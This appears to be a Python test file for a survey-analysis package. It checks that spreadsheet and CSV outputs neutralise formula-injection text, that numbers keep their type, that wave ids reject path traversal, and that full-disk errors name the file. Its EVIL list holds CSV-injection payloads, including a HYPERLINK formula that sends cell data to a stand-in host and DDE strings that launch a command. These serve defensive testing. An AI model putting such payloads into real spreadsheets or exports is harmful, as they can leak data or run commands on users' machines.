"""Tests of survey.io.safe and of every spreadsheet the package writes: respondents' text that
looks like a formula is written inert (OWASP CSV-injection rule; openpyxl never stores a formula),
numbers stay numbers; wave ids are names, never paths.  Written files are read back with openpyxl
and the csv module directly."""
from __future__ import annotations

import csv
import json

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as hs

from survey import Questionnaire, clean
from survey.errors import ParameterError
from survey.io.safe import (FORMULA_PREFIXES, check_wave_id, harden_workbook, neutralise,
                            neutralise_frame)

EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"点这里")', "=cmd|' /C calc'!A0",
        "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def _formula_cells(path):
    wb = openpyxl.load_workbook(path)  # not data_only: formulas would come back as "=..."
    bad = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f" or (isinstance(c.value, str) and c.value[:1] in FORMULA_PREFIXES
                                          and not _plain_number(c.value)):
                    bad.append((ws.title, c.coordinate, c.value))
    return bad


def _plain_number(v):
    try:
        float(v)
        return v.strip() == v
    except ValueError:
        return False


def _csv_cells(path):
    with open(path, newline="", encoding="utf-8-sig") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


# ------------------------------------------------------------------------------------------
# the neutraliser
# ------------------------------------------------------------------------------------------
@given(hs.text(max_size=12))
def test_neutralised_text_never_starts_a_formula(s):
    out = neutralise(s)
    assert not (out[:1] in FORMULA_PREFIXES) or _plain_number(out)
    # nothing is lost: the original text follows the quote
    assert out in (s, "'" + s)


def test_numbers_stay_numbers_and_frames_keep_numeric_dtypes():
    f = pd.DataFrame({"n": [-1, 2, -3], "x": [-1.5, np.nan, 2.0], "b": [True, False, True],
                      "t": ["=1+1", "-4", "ok"],
                      "c": pd.Categorical(["@a", "b", "@a"], ["@a", "b"])})
    g = neutralise_frame(f)
    assert g["n"].dtype == f["n"].dtype and g["n"].tolist() == [-1, 2, -3]
    assert g["x"].dtype == np.float64 and g["b"].tolist() == [True, False, True]
    assert g["t"].tolist() == ["'=1+1", "-4", "ok"]
    assert g["c"].tolist() == ["'@a", "b", "'@a"]
    assert f["t"].tolist() == ["=1+1", "-4", "ok"]  # the input is not modified


def test_neutralise_frame_covers_column_names_and_index():
    f = pd.DataFrame({"=bad": ["a"]}, index=pd.Index(["+x"], name="@i"))
    g = neutralise_frame(f)
    assert list(g.columns) == ["'=bad"] and list(g.index) == ["'+x"] and g.index.name == "'@i"


def test_harden_workbook_turns_formulas_into_text():
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append([*EVIL, -7, 3.5])
    assert ws["A1"].data_type == "f"  # what openpyxl does by itself
    assert harden_workbook(wb) == len(EVIL)
    assert all(c.data_type == "s" and c.value.startswith("'") for c in ws[1][:len(EVIL)])
    assert ws.cell(row=1, column=len(EVIL) + 1).value == -7


# ------------------------------------------------------------------------------------------
# the writers
# ------------------------------------------------------------------------------------------
def _injected_clean():
    q = Questionnaire.from_dict({"wave": {"id": "inj"}, "questions": [
        {"id": "q1", "text": "是否", "type": "single", "options": {1: "是", 2: "否"}},
        {"id": "q2", "text": "原因", "type": "single", "options": {1: "甲", 9: "其他"}, "other": 9,
         "ask_if": "q1 == 1"},
        {"id": "hours", "text": "小时", "type": "numeric", "range": [0, 112], "missing_codes": {}}]})
    n = len(EVIL)
    f = pd.DataFrame({"rid": [f"r{i}" for i in range(n)],
                      "q1": pd.Categorical(["否"] * n, ["是", "否"]),
                      "q2": pd.Categorical(["其他"] * n, ["甲", "其他"]),
                      "q2_other": EVIL, "hours": [-5.0] + [40.0 + i for i in range(1, n)]})
    return clean(f, q)


def test_clean_log_csv_and_xlsx_hold_no_live_formula(tmp_path):
    res = _injected_clean()
    assert set(EVIL) <= set(res.log["old_value"])  # the "other" text was blanked and logged
    paths = res.write(tmp_path)
    assert _formula_cells(paths["log_xlsx"]) == []
    cells = _csv_cells(paths["log_csv"])
    assert [c for c in cells if c[:1] in FORMULA_PREFIXES and not _plain_number(c)] == []
    for e in EVIL:  # the text is still there, quoted
        assert "'" + e in cells
    # a negative number logged as its text keeps its sign (it is a number, not a formula)
    assert "-5.0" in cells


def test_report_workbook_holds_no_live_formula(tmp_path):
    from survey.report.workbook import write_workbook

    (tmp_path / "nb").mkdir()
    rec = {"id": "T1", "title": "=1+1", "notebook": "nb", "index_name": ["@组"],
           "index": [[EVIL[0]], [EVIL[1]]], "columns": ["+人数"], "formats": {"+人数": "count"},
           "data": [[-12], [EVIL[2]]], "unreliable": [[False], [False]], "notes": [EVIL[3]],
           "show_index": True}
    (tmp_path / "nb" / "001_T1.json").write_text(json.dumps(rec, ensure_ascii=False), encoding="utf-8")
    out = write_workbook(tmp_path, tmp_path / "t.xlsx", notebooks=["nb"])
    assert _formula_cells(out) == []
    ws = openpyxl.load_workbook(out)["T1"]
    assert ws["B4"].value == -12  # numbers stay numbers (row 3 is the header, row 2 the notes row)


def test_replicate_weights_csv_quotes_formula_like_ids(tmp_path):
    from survey import SurveyDesign
    from survey.weighting import export_replicate_weights

    df = pd.DataFrame({"rid": ["=1+1", "b", "@c", "d"], "c": [1, 1, 2, 2], "w": [1.0] * 4})
    r = SurveyDesign(df, weights="w", psu="c").replicate("jk1")
    p = export_replicate_weights(r, tmp_path / "w.csv")
    with open(p, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert [row[0] for row in rows[1:]] == ["'=1+1", "b", "'@c", "d"]
    assert float(rows[1][1]) == 1.0


# ------------------------------------------------------------------------------------------
# wave ids
# ------------------------------------------------------------------------------------------
@pytest.mark.parametrize("bad", ["../../x", "..", "a/b", "a\\b", "/etc", "C:x", "a\x00b", "", " ",
                                 "x/../y", "~root"])
def test_wave_id_that_is_a_path_is_refused(bad):
    with pytest.raises(ParameterError, match="wave id"):
        check_wave_id(bad)


@pytest.mark.parametrize("ok", ["2024", "demo-2024", "2024 春季", "科技工作者2025", "w.1"])
def test_wave_id_names_are_kept(ok):
    assert check_wave_id(ok) == ok


# ------------------------------------------------------------------------------------------
# a full disk names the file
# ------------------------------------------------------------------------------------------
def _no_space(*a, **k):
    import errno

    raise OSError(errno.ENOSPC, "No space left on device")  # like a failed write(): no file name


def test_clean_write_on_a_full_disk_names_the_file(tmp_path, monkeypatch):
    from openpyxl import Workbook

    res = _injected_clean()
    monkeypatch.setattr(Workbook, "save", _no_space)
    with pytest.raises(OSError) as ei:
        res.write(tmp_path)
    assert ei.value.filename == str(tmp_path / "inj" / "clean_log.xlsx")


def test_cli_clean_on_a_full_disk_says_which_file_in_one_line(tmp_path, monkeypatch, capsys):
    import yaml
    from openpyxl import Workbook

    from survey.cli import main
    from survey.io import write_wjx

    qd = {"wave": {"id": "inj"}, "questions": [
        {"id": "q1", "text": "是否", "type": "single", "options": {1: "是", 2: "否"}},
        {"id": "hours", "text": "小时", "type": "numeric", "range": [0, 112], "missing_codes": {}}]}
    qfile = tmp_path / "questionnaire.yml"
    qfile.write_text(yaml.safe_dump(qd, allow_unicode=True), encoding="utf-8")
    q = Questionnaire.load(qfile)
    f = pd.DataFrame({"rid": ["1", "2"], "q1": pd.Categorical(["是", "否"], ["是", "否"]),
                      "hours": [40.0, 50.0]})
    raw = tmp_path / "export.xlsx"
    write_wjx(f, q, raw)
    monkeypatch.setattr(Workbook, "save", _no_space)
    assert main(["clean", str(raw), "-q", str(qfile), "--out", str(tmp_path / "o"), "--salt", "s"]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "clean_log.xlsx" in err[0] and "disk is full" in err[0], err
